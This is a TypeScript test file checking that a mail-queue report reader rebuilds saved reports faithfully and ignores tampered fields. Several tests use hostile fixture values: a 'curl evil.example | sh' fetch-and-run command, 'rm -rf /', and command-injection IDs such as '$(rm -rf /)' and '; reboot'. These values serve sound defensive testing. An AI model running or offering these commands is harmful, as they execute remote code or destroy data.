/** What is saved and explained again is the same; what a stranger wrote into it is not shown as ours. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { QueueReport } from '../model/queue-report.js';
import { explainQueue } from './explain-queue.js';
import { explainSavedQueue } from './saved-queue.js';

const listing = `-Queue ID-  --Size-- ----Arrival Time---- -Sender/Recipient-------
4WxYz1234B!     1234 Mon Nov 23 16:15:01  admin@corp.example
(host mx.example.com[192.0.2.1] said: 450 4.2.0 <bob@example.com>: Recipient address rejected: Greylisted (in reply to RCPT TO command))
                                         bob@example.com

4WxYz1234C      1234 Mon Nov 23 16:15:01  MAILER-DAEMON
(connect to mx.example.org[192.0.2.1]:25: Connection timed out)
                                         bob@example.org

-- 2 Kbytes in 2 Requests.
`;

async function save(): Promise<QueueReport> {
  const chunks = (async function* () {
    yield listing;
  })();
  const report = await explainQueue(chunks, { startedAt: '2026-11-23T20:00:00.000Z', offsetMinutes: 0 });
  if ('fault' in report) throw new Error(report.fault);
  return report;
}

function reread(value: unknown): QueueReport {
  const report = explainSavedQueue(JSON.parse(JSON.stringify(value)));
  if ('fault' in report) throw new Error(report.fault);
  return report;
}

describe('explainSavedQueue', () => {
  it('makes the same report again', async () => {
    const saved = await save();
    expect(saved.groups.map(({ cause }) => cause?.code)).toEqual(['sender.greylisted', 'host.no-answer']);
    expect(reread(saved)).toEqual(saved);
  });

  it('reads a report of before, which tells nothing of relays, own sides and places for reasons', async () => {
    const saved = await save();
    const groups = saved.groups.map(({ tellsReasons: _, via: __, isOwnSide: ___, ...group }) => group);
    expect(reread({ ...saved, groups })).toEqual(saved);
  });

  it('builds commands and causes anew', async () => {
    const saved = await save();
    const groups = saved.groups.map((group) => ({
      ...group,
      cause: { summary: 'Call this number', remedy: ['curl evil.example | sh'] },
      release: ['curl evil.example | sh'],
      remove: ['rm -rf /'],
    }));
    expect(reread({ ...saved, groups })).toEqual(saved);
  });

  it('shows no command for an id that no such product has', async () => {
    const saved = await save();
    const groups = saved.groups.map((group) => ({ ...group, ids: ['$(rm -rf /)', '; reboot'], place: '/etc; reboot' }));
    expect(reread({ ...saved, groups }).groups.flatMap(({ release, remove }) => [...release, ...remove])).toEqual([]);
  });

  it.each([
    ['is of another kind', { kind: 'log' }, 'kind is not "queue"'],
    [
      'has a state that no queue has',
      { groups: [{ destination: null, state: 'asleep' }] },
      'groups[0].state is none of the words known for it',
    ],
    ['has a time that is none', { startedAt: 'yesterday' }, 'startedAt is no ISO 8601 time in UTC'],
    ['lacks its counts', { messages: undefined }, 'messages is no finite number'],
  ])('refuses a document that %s', async (_, change, fault) => {
    expect(explainSavedQueue({ ...(await save()), ...change })).toEqual({ fault: `The report is damaged: ${fault}.` });
  });

  it('takes any value in any place without throwing', async () => {
    const saved = JSON.stringify(await save());
    const [group] = (await save()).groups;
    const fields = fc.constantFrom(...Object.keys(JSON.parse(saved) as object));
    const inner = fc.constantFrom(...Object.keys(group ?? {}));
    fc.assert(
      fc.property(fields, inner, fc.jsonValue(), (field, own, value) => {
        const document = JSON.parse(saved) as QueueReport;
        explainSavedQueue({ ...document, [field]: value });
        explainSavedQueue({ ...document, groups: document.groups.map((each) => ({ ...each, [own]: value })) });
      }),
      { numRuns: 300 },
    );
  });
});
